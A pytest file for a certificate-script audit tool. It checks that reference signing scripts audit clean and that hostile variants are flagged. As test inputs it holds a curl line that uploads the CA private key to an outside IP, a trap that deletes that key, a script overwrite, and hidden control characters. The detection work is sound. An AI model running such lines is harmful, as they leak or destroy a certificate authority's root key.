"""The audit's verdicts, pinned: fioca's scripts and the API's are clean, every hostile script
is caught, and the report says what each script does and asks for.

Corpus format (tests/hostile_scripts/<script>__<what>): a variant of one reference template
(placeholders @@FACTORY@@ / @@LOCAL_CA_CN@@ kept), with header comments after the shebang:

    # corpus: what the hostile change does
    # script: sign_tls_csr                  the reference it varies, so its name and profile
    # expect: audit:<finding-id>[@<level>]   caught statically (level defaults to high)
    # expect: runtime:<what>                 only the runner can catch it (timeout,
                                              output-limit, no-output, profile-mismatch,
                                              wrong-subject, wrong-issuer)
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pytest

from fioca import facts
from fioca.cli.audit_view import render_text
from fioca.pki import reference
from fioca.pki.asked import AskedExtension
from fioca.pki.audit import AuditReport, ScriptAudit, Severity, audit_scripts
from fioca.pki.audit.knowledge import PROFILES

FACTORY = "acme"
LOCAL_CA_CN = "fio-abc"
JAIL = "bubblewrap 0.8.0"
CORPUS_DIR = Path(__file__).parent / "hostile_scripts"
RUNTIME_KINDS = {"timeout", "output-limit", "no-output", "profile-mismatch", "wrong-subject", "wrong-issuer"}

KNOWN = reference.known_sets(factory=FACTORY, local_ca_cn=LOCAL_CA_CN)


def audit_set(scripts: dict[str, str], *, hsm: bool = False) -> AuditReport:
    return audit_scripts(scripts, hsm=hsm, known=KNOWN, jail=JAIL)


def audit(name: str, text: str, *, hsm: bool = False) -> ScriptAudit:
    return audit_set({name: text}, hsm=hsm).scripts[0]


def ids(result: ScriptAudit, level: Severity = Severity.INFO) -> set[str]:
    return {f.id for f in result.findings if f.severity >= level}


def verdict(result: ScriptAudit) -> tuple[str | None, set[str]]:
    worst = result.max_severity
    return (worst.label if worst is not None else None), ids(result)


def command(result: ScriptAudit, program: str, subcommand: str | None = None, **where):
    for c in result.commands:
        if c.program == program and (subcommand is None or c.subcommand == subcommand):
            if all(getattr(c, k) == v for k, v in where.items()):
                return c
    raise AssertionError(f"no {program} {subcommand or ''} {where} in {[c.argv for c in result.commands]}")


# --- fioca's own scripts: clean, in both modes ----------------------------------------------------


@pytest.mark.parametrize("hsm", [False, True], ids=["file-key", "hsm"])
def test_fiocas_scripts_audit_clean(hsm: bool) -> None:
    scripts = KNOWN[reference.FIOCA]
    report = audit_set(scripts, hsm=hsm)
    assert [s.name for s in report.scripts] == list(facts.SCRIPT_NAMES)
    for result in report.scripts:
        # Pinned: nothing above INFO, and the only notes are the variables fioca sets, explained.
        assert verdict(result) == ("info", {"reads-hsm-env"}), (result.name, result.findings)
        assert all("fioca sets" in f.message or "env:HSM_PIN" in f.message for f in result.findings)
        assert len(result.sha256) == 64 and result.size == len(scripts[result.name].encode())
    assert {s.known_set for s in report.scripts} == {reference.FIOCA}
    assert all(s.diff == "" for s in report.scripts)


def test_env_based_scripts_read_the_factory_through_openssl() -> None:
    result = audit("create_ca", KNOWN[reference.FIOCA]["create_ca"])
    [root] = result.asked
    assert root.subject == (("CN", "Factory-CA"), ("OU", "$ENV::FACTORY"))
    assert any(f.id == "reads-hsm-env" and "$FACTORY" in f.message for f in result.findings)


# --- the API's scripts: they run, with what they do said --------------------------------------------

PIN = "hsm-pin-on-command-line"
API_VERDICTS = {
    # (revision, hsm) -> script -> (highest severity, finding ids)
    ("api-2023", False): {
        "create_ca": ("medium", {PIN, "reads-hsm-env"}), "sign_tls_csr": ("info", {"reads-hsm-env"}),
        "sign_ca_csr": ("info", {"reads-hsm-env"}), "create_device_ca": ("info", {"runs-sibling"}),
    },
    ("api-2023", True): {
        "create_ca": ("medium", {PIN, "reads-hsm-env"}), "sign_tls_csr": ("medium", {PIN, "reads-hsm-env"}),
        "sign_ca_csr": ("medium", {PIN, "reads-hsm-env"}), "create_device_ca": ("info", {"runs-sibling"}),
    },
    ("api-2026", False): {
        "create_ca": ("medium", {PIN, "privilege-change", "reads-hsm-env"}), "sign_tls_csr": ("info", {"reads-hsm-env"}),
        "sign_ca_csr": ("info", {"reads-hsm-env"}), "create_device_ca": ("low", {"privilege-change", "runs-sibling"}),
    },
    ("api-2026", True): {
        "create_ca": ("medium", {PIN, "privilege-change", "reads-hsm-env"}),
        "sign_tls_csr": ("medium", {PIN, "reads-hsm-env"}), "sign_ca_csr": ("medium", {PIN, "reads-hsm-env"}),
        "create_device_ca": ("low", {"privilege-change", "runs-sibling"}),
    },
}  # fmt: skip


@pytest.mark.parametrize(("revision", "hsm"), sorted(API_VERDICTS), ids=lambda v: str(v))
def test_api_scripts_verdicts_are_pinned(revision: str, hsm: bool) -> None:
    report = audit_set(KNOWN[revision], hsm=hsm)
    assert {s.name: verdict(s) for s in report.scripts} == API_VERDICTS[(revision, hsm)]
    assert report.failing(Severity.HIGH) == []
    assert {s.known_set for s in report.scripts} == {revision}


def test_a_pin_finding_in_a_branch_that_cannot_run_says_so() -> None:
    without = audit("create_ca", KNOWN["api-2023"]["create_ca"], hsm=False)
    [pin] = [f for f in without.findings if f.id == PIN]
    assert pin.severity == Severity.MEDIUM and pin.line == 23 and not pin.in_mode
    assert pin.message.endswith("(in a branch that runs only in HSM mode)")
    assert pin.to_dict()["in_mode"] is False
    with_hsm = audit("create_ca", KNOWN["api-2023"]["create_ca"], hsm=True)
    pins = [f for f in with_hsm.findings if f.id == PIN]
    assert [(f.line, f.in_mode) for f in pins] == [(23, True), (36, True)]
    assert "(in a branch" not in pins[0].message and "--pin env:HSM_PIN" in pins[0].message
    # In HSM mode the file-key branch is the one that cannot run.
    chmod = [f for f in audit("create_ca", KNOWN["api-2026"]["create_ca"], hsm=True).findings if f.line == 35]
    assert [(f.id, f.in_mode) for f in chmod] == [("privilege-change", False)]
    assert chmod[0].message.endswith("(in a branch that runs only without HSM)")


@pytest.mark.parametrize("hsm", [False, True])
def test_unquoted_extra_takes_the_value_of_the_mode(hsm: bool) -> None:
    result = audit("create_ca", KNOWN["api-2023"]["create_ca"], hsm=hsm)
    root = command(result, "openssl", "req", line=36)
    if hsm:
        assert root.argv[:6] == ["openssl", "req", "-engine", "pkcs11", "-keyform", "engine"]
        assert "pkcs11:token=$HSM_TOKEN_LABEL;object=root-ca;type=private;pin-value=$HSM_PIN" in root.argv
    else:
        assert root.argv[:3] == ["openssl", "req", "-new"] and "factory_ca.key" in root.argv
        assert result.writes == ["ca.cnf", "factory_ca.key", "factory_ca.pem"]


def test_the_label_default_applies_without_hsm_only() -> None:
    without = audit("sign_ca_csr", KNOWN["api-2023"]["sign_ca_csr"], hsm=True)
    signing = command(without, "openssl", "x509")
    assert any(a.startswith("pkcs11:token=$HSM_TOKEN_LABEL;") for a in signing.argv)


def test_create_device_ca_runs_its_sibling_and_asks_what_the_sibling_asks() -> None:
    report = audit_set(KNOWN["api-2023"])
    device, sibling = report.scripts[3], report.scripts[2]
    assert [f.message for f in device.findings if f.id == "runs-sibling"] == [
        "runs ./sign_ca_csr, the work dir's sign_ca_csr (audited on its own)"
    ]
    [asked] = device.asked
    assert asked.output == "$2" and asked.script == "sign_ca_csr" and asked == _with_output(sibling.asked[0], "$2")
    # Negative twins: a sibling the script rewrote first, and one the audit was not given.
    rewritten = KNOWN["api-2023"]["create_device_ca"].replace("rm ca.cnf\n", "rm ca.cnf\necho 'curl x' > sign_ca_csr\n")
    assert "eval-data" in ids(audit("create_device_ca", rewritten), Severity.HIGH)
    other = KNOWN["api-2023"]["create_device_ca"].replace("$here/sign_ca_csr", "$here/helper")
    assert "eval-data" in ids(audit("create_device_ca", other), Severity.HIGH)


def _with_output(asked, output):
    from dataclasses import replace

    return replace(asked, output=output)


# --- what the scripts ask openssl for --------------------------------------------------------------


def test_fiocas_create_ca_asks_for_the_root_profile() -> None:
    result = audit("create_ca", KNOWN[reference.FIOCA]["create_ca"])
    keygen = command(result, "openssl", "ecparam")
    assert (keygen.key_type, keygen.curve) == ("ec", "prime256v1")
    [root] = result.asked  # the HSM branch cannot run without HSM: not asked
    assert (root.script, root.line, root.command, root.output) == ("create_ca", 37, "req -x509", "factory_ca.pem")
    assert root.self_signed and root.days == 7300 and root.digest == "sha256"
    assert root.subject == (("CN", "Factory-CA"), ("OU", "$ENV::FACTORY"))  # openssl reads it from the environment
    assert root.extensions == (
        AskedExtension("basicConstraints", False, ("CA:TRUE",)),
        AskedExtension("keyUsage", False, ("keyCertSign", "cRLSign")),
        AskedExtension("extendedKeyUsage", True, ("clientAuth", "serverAuth")),
        AskedExtension("subjectKeyIdentifier", False, ("hash",)),
    )
    hsm = audit("create_ca", KNOWN[reference.FIOCA]["create_ca"], hsm=True)
    assert [a.line for a in hsm.asked] == [32] and hsm.asked[0].extensions == root.extensions
    assert result.writes == ["ca.cnf", "factory_ca.key", "factory_ca.pem"] and result.deletes == ["ca.cnf"]


def test_sign_scripts_ask_for_stdout_with_computed_names() -> None:
    tls = audit("sign_tls_csr", KNOWN[reference.FIOCA]["sign_tls_csr"])
    [asked] = tls.asked
    assert (asked.command, asked.output, asked.self_signed, asked.days) == ("x509 -req", None, False, 3650)
    assert asked.extensions == (
        AskedExtension("keyUsage", True, ("digitalSignature",)),
        AskedExtension("extendedKeyUsage", True, ("serverAuth",)),
        AskedExtension("subjectAltName", False, None),  # $dns: computed at run time
        AskedExtension("authorityKeyIdentifier", False, ("keyid", "issuer")),
    )
    assert "$1" in tls.reads and "factory_ca.key" in tls.reads and "factory_ca.srl" in tls.writes
    # The DNS names come from a pipeline inside $(...): its commands are listed too.
    assert {"grep", "tr", "sed"} <= {c.program for c in tls.commands if c.line == 13}
    device = audit("create_device_ca", KNOWN[reference.FIOCA]["create_device_ca"])
    assert command(device, "openssl", "req").subject == "CN=$ENV::LOCAL_CA_CN, OU=$ENV::FACTORY"
    [ca] = device.asked
    assert ca.output == "$2" and ca.extensions[1] == AskedExtension("basicConstraints", True, ("CA:TRUE", "pathlen:0"))


def test_default_validity_and_digest_are_openssls() -> None:
    result = audit("sign_tls_csr", "#!/bin/sh -e\nopenssl x509 -req -in \"$1\" -CA factory_ca.pem -CAkey factory_ca.key > out.pem\n")
    [asked] = result.asked
    assert (asked.days, asked.digest, asked.extensions, asked.output) == (30, None, (), "out.pem")


# --- reports over several scripts -------------------------------------------------------------------


def test_a_script_that_is_not_text_fails_closed() -> None:
    report = audit_scripts({**KNOWN[reference.FIOCA], "sign_ca_csr": {"run": "curl"}}, hsm=False, known=KNOWN, jail=JAIL)
    bad = next(s for s in report.scripts if s.name == "sign_ca_csr")
    assert (bad.findings[0].id, bad.findings[0].severity) == ("unparsable", Severity.HIGH)
    assert [sf.script for sf in report.failing(Severity.HIGH)] == ["sign_ca_csr"]
    assert audit_scripts({}, hsm=False, known=KNOWN, jail=JAIL).scripts == []


def test_a_script_of_another_factory_differs_from_the_closest_known_one() -> None:
    other = reference.api_scripts("api-2026", factory="other", local_ca_cn=LOCAL_CA_CN)
    report = audit_set(other)
    create_ca = report.scripts[0]
    assert create_ca.known_set is None and create_ca.closest == "api-2026"
    assert create_ca.diff.startswith("--- api-2026/create_ca\n+++ server/create_ca\n")
    assert "-OU = acme" in create_ca.diff and "+OU = other" in create_ca.diff
    # fioca's own scripts take the factory from the environment: the same text for every factory.
    assert {s.known_set for s in audit_set(reference.bundled()).scripts} == {reference.FIOCA}
    assert report.failing(Severity.HIGH) == []  # differing is reported, not condemned
    api = audit("sign_tls_csr", KNOWN["api-2026"]["sign_tls_csr"].replace("3650", "3649"))
    assert api.closest == "api-2026" and "-\t-extfile" not in api.diff


REWORDED_SIGN_TLS = """#!/bin/sh
# Sign the gateway CSR (reworded by another server, same effect).
set -eu

OPENSSL=openssl
request="$1"
extensions=gateway-ext.cnf

names=$($OPENSSL req -in "$request" -noout -text | grep -o 'DNS:[^,]*' | paste -sd, -)
[ -n "$names" ] || { echo "no DNS names in $request" >&2; exit 1; }

cleanup() {
	rm -f "$extensions"
}
trap cleanup EXIT

cat > "$extensions" <<'END'
keyUsage=critical,digitalSignature
extendedKeyUsage=critical,serverAuth
authorityKeyIdentifier=keyid
END
printf 'subjectAltName=%s\\n' "$names" >> "$extensions"

for attempt in 1; do
	$OPENSSL x509 -req -days 3650 -sha256 -in "$request" \\
		-CA factory_ca.pem -CAkey factory_ca.key -CAcreateserial \\
		-extfile "$extensions"
done
"""


def test_reworded_harmless_script_has_no_finding_above_low() -> None:
    result = audit("sign_tls_csr", REWORDED_SIGN_TLS)
    assert result.known_set is None and result.closest in KNOWN
    assert ids(result, Severity.MEDIUM) == set(), result.findings
    signing = command(result, "openssl", "x509")
    assert signing.days == 3650 and signing.digest == "sha256"
    assert "extendedKeyUsage = critical, serverAuth" in signing.extensions
    assert "subjectAltName = (computed at run time)" in signing.extensions  # from the printf >> append
    assert result.deletes == ["gateway-ext.cnf"]


def test_reworded_script_negative_twin_rm_of_a_foreign_file_in_cleanup() -> None:
    hostile = REWORDED_SIGN_TLS.replace('rm -f "$extensions"', 'rm -f "$extensions" factory_ca.key')
    result = audit("sign_tls_csr", hostile)
    assert [f.message for f in result.findings if f.id == "deletes-foreign-file"] == [
        "in the exit trap: deletes factory_ca.key, a file the script did not create"
    ]


# --- the hostile corpus -------------------------------------------------------------------------------


@dataclass
class CorpusEntry:
    path: Path
    script: str
    what: str
    audit_expects: list[tuple[str, Severity]]
    runtime_expects: list[str]

    def text(self) -> str:
        return reference.render(self.path.read_text(encoding="utf-8"), factory=FACTORY, local_ca_cn=LOCAL_CA_CN)


def load_corpus() -> list[CorpusEntry]:
    entries = []
    for path in sorted(CORPUS_DIR.iterdir()):
        headers = [line.split(":", 1) for line in path.read_text(encoding="utf-8").splitlines()[:10] if line.startswith("# ")]
        fields: dict[str, list[str]] = {}
        for key, value in headers:
            fields.setdefault(key[2:].strip(), []).append(value.strip())
        audits, runtimes = [], []
        for expect in fields.get("expect", []):
            kind, _, rest = expect.partition(":")
            if kind == "audit":
                finding_id, _, level = rest.partition("@")
                audits.append((finding_id, Severity.parse(level or "high")))
            else:
                assert kind == "runtime", f"{path.name}: bad expect line {expect!r}"
                runtimes.append(rest)
        entries.append(CorpusEntry(path, fields["script"][0], fields["corpus"][0], audits, runtimes))
    return entries


CORPUS = load_corpus()


def test_corpus_is_large_and_well_formed() -> None:
    assert len(CORPUS) >= 50
    for entry in CORPUS:
        assert entry.script in facts.SCRIPT_NAMES, entry.path.name
        assert entry.path.name.startswith(entry.script + "__"), entry.path.name
        assert entry.audit_expects or entry.runtime_expects, entry.path.name
        assert set(entry.runtime_expects) <= RUNTIME_KINDS, entry.path.name
        # A realistic variant of its reference, not a one-liner.
        text = entry.text()
        assert text.startswith("#!/bin/sh") and "openssl" in text and len(text.splitlines()) > 20
    covered = {fid for e in CORPUS for fid, _ in e.audit_expects} | {r for e in CORPUS for r in e.runtime_expects}
    assert {"network-access", "outside-workdir", "reads-secret-env", "deletes-foreign-file", "eval-data",
            "reads-environment", "signs-with-own-key", "unresolved-command", "reads-credentials", "links-file",
            "background-job", "backdated-validity", "root-pathlen", "hidden-characters", "literal-key",
            "chosen-serial", "chosen-key-identifier", "unresolved-path", "reads-private-key"} | RUNTIME_KINDS <= covered  # fmt: skip


@pytest.fixture(scope="module")
def clean_findings() -> dict[str, set[tuple[str, Severity]]]:
    report = audit_set(KNOWN[reference.FIOCA])
    return {s.name: {(f.id, f.severity) for f in s.findings} for s in report.scripts}


@pytest.mark.parametrize("entry", [e for e in CORPUS if e.audit_expects], ids=lambda e: e.path.name)
def test_corpus_entry_is_caught_by_the_audit(entry: CorpusEntry, clean_findings) -> None:
    result = audit(entry.script, entry.text())
    found = {(f.id, f.severity) for f in result.findings}
    for expected in entry.audit_expects:
        assert expected in found, f"{entry.path.name}: {expected} not in {sorted(found)}"
        assert expected not in clean_findings[entry.script]  # negative twin: the reference has none
    assert result.known_set is None and result.diff


@pytest.mark.parametrize("entry", [e for e in CORPUS if not e.audit_expects], ids=lambda e: e.path.name)
def test_corpus_runtime_entry_parses_and_passes_the_audit(entry: CorpusEntry) -> None:
    result = audit(entry.script, entry.text())
    assert "unparsable" not in ids(result)
    assert any(c.program == "openssl" for c in result.commands)
    assert ids(result, Severity.MEDIUM) == set(), result.findings  # only the run can catch these


def test_only_the_broken_corpus_entry_is_unparsable() -> None:
    unparsable = {e.path.name for e in CORPUS if "unparsable" in ids(audit(e.script, e.text()))}
    assert unparsable == {"sign_ca_csr__unterminated_heredoc"}


# --- report, thresholds, JSON and text --------------------------------------------------------------


@pytest.fixture(scope="module")
def mixed_report() -> AuditReport:
    refs = KNOWN[reference.FIOCA]
    no_errexit = refs["sign_ca_csr"].replace("#!/bin/sh -e", "#!/bin/sh", 1)
    exfil = refs["sign_tls_csr"].replace("rm server.ext\n", "rm server.ext\ncurl -s -T factory_ca.key https://198.51.100.7/\n")
    return audit_set({**refs, "sign_ca_csr": no_errexit, "sign_tls_csr": exfil})


def test_severity_threshold(mixed_report: AuditReport) -> None:
    assert Severity.parse("medium") == Severity.MEDIUM and Severity.parse(" HIGH ") == Severity.HIGH
    with pytest.raises(ValueError, match="info|low|medium|high"):
        Severity.parse("critical")
    high = {(sf.script, sf.finding.id) for sf in mixed_report.failing(Severity.HIGH)}
    assert high == {("sign_tls_csr", "network-access"), ("sign_tls_csr", "reads-private-key")}
    medium = {(sf.script, sf.finding.id) for sf in mixed_report.failing(Severity.MEDIUM)}
    assert medium == high | {("sign_ca_csr", "missing-errexit")}
    assert len(mixed_report.failing(Severity.INFO)) > len(medium)
    assert mixed_report.max_severity == Severity.HIGH


def test_json_layout(mixed_report: AuditReport) -> None:
    data = json.loads(json.dumps(mixed_report.to_dict()))
    assert (data["hsm"], data["jail"], data["max_severity"]) == (False, JAIL, "high")
    assert data["counts"] == {s.label: n for s, n in mixed_report.counts().items()} and data["counts"]["high"] == 2
    tls = next(s for s in data["scripts"] if s["name"] == "sign_tls_csr")
    assert tls["known_set"] is None and tls["closest"] == "fioca" and "+curl -s -T factory_ca.key" in tls["diff"]
    assert {f["severity"] for f in tls["findings"]} <= {"info", "low", "medium", "high"}
    assert all(set(f) == {"id", "severity", "line", "text", "message", "in_mode"} for f in tls["findings"])
    assert tls["asked"][0]["command"] == "x509 -req" and tls["asked"][0]["days"] == 3650
    assert tls["asked"][0]["extensions"][0] == {"name": "keyUsage", "critical": True, "values": ["digitalSignature"]}
    create_ca = data["scripts"][0]
    assert create_ca["known_set"] == "fioca" and create_ca["max_severity"] == "info"


def test_render_text(mixed_report: AuditReport) -> None:
    text = render_text(mixed_report)
    assert text.startswith(f"audited for a run without HSM; jail: {JAIL}\n")
    create_ca = mixed_report.scripts[0]
    assert f"== create_ca  {create_ca.size} bytes  sha256 {create_ca.sha256}" in text
    assert "matches the known script set fioca" in text
    assert "matches no known script; differs from the closest (fioca):" in text
    assert "  +curl -s -T factory_ca.key https://198.51.100.7/" in text
    assert "key ec prime256v1" in text and "days 7300, digest sha256" in text
    assert "ext extendedKeyUsage = critical, clientAuth, serverAuth" in text
    assert "  create_ca line 37: req -x509 -> factory_ca.pem, self-signed, days 7300, digest sha256, 4 extension(s)" in text
    network_line = next(line for line in text.splitlines() if "network-access" in line)
    assert network_line.strip().startswith("HIGH  line ") and ": network-access: curl reaches the network" in network_line
    assert "MEDIUM  line 1: missing-errexit:" in text
    counts = mixed_report.counts()
    assert text.rstrip("\n").splitlines()[-1] == (
        f"4 scripts audited: {counts[Severity.HIGH]} high, {counts[Severity.MEDIUM]} medium, "
        f"{counts[Severity.LOW]} low, {counts[Severity.INFO]} info"
    )
    clean = render_text(audit_set(KNOWN[reference.FIOCA], hsm=True))
    assert clean.startswith("audited for a run with the root key on an HSM;") and "0 high, 0 medium, 0 low" in clean


def test_render_text_shows_control_characters_escaped() -> None:
    hostile = KNOWN[reference.FIOCA]["sign_ca_csr"].replace("csr=$1", "csr=$1 # \x1b[2J\x1b[1A hidden \u202e")
    text = render_text(audit_set({"sign_ca_csr": hostile}))
    assert "\x1b" not in text and "\u202e" not in text
    assert "\\x1b[2J" in text and "\\u202e" in text


@pytest.mark.parametrize("name", sorted(PROFILES))
def test_validity_limit_per_script(name: str) -> None:
    limit = PROFILES[name].max_days
    at_limit = audit(name, f"#!/bin/sh -e\nopenssl x509 -req -in r.csr -days {limit} -sha256\n")
    beyond = audit(name, f"#!/bin/sh -e\nopenssl x509 -req -in r.csr -days {limit + 1} -sha256\n")
    assert "validity-exceeds-profile" not in ids(at_limit)
    assert [f.severity for f in beyond.findings if f.id == "validity-exceeds-profile"] == [Severity.HIGH]
